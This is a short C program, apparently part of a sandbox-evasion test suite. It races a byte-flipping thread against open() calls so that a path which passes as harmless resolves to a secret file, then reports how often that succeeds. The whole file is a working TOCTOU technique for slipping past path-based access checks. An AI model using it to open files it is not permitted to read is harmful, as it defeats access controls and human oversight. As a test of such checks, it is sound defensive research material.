/* TOCTOU on a path: one thread opens a path while another flips its last byte between a file that
 * nobody minds and the secret. Tells how often the secret came out.
 *
 *     race-open SECRET BENIGN ROUNDS      (names of one length that differ in the last byte)
 */
#include "evade.h"
#include <pthread.h>

static char path[4096];
static char bytes[2];
static size_t last;
static volatile int done;

static void *flip(void *unused)
{
	for (unsigned i = 0; !done; i++)
		((volatile char *)path)[last] = bytes[i & 1];
	return unused;
}

int main(int argc, char **argv)
{
	if (argc != 4 || strlen(argv[1]) != strlen(argv[2]))
		return 2;
	strncpy(path, argv[2], sizeof path - 1);
	last = strlen(path) - 1;
	bytes[0] = argv[1][last];
	bytes[1] = argv[2][last];
	/* Asked before, so that the only opens of the secret are the race's. */
	unsigned long secret = inode_of(argv[1]);
	pthread_t thread;
	must(pthread_create(&thread, NULL, flip, NULL) == 0, "pthread_create");
	long hits = 0;
	long rounds = atol(argv[3]);
	for (long round = 0; goes_on(round, rounds, hits); round++) {
		int fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		hits += inode(fd) == secret;
		close(fd);
	}
	done = 1;
	pthread_join(thread, NULL);
	printf("fact hits %ld\n", hits);
	return 0;
}
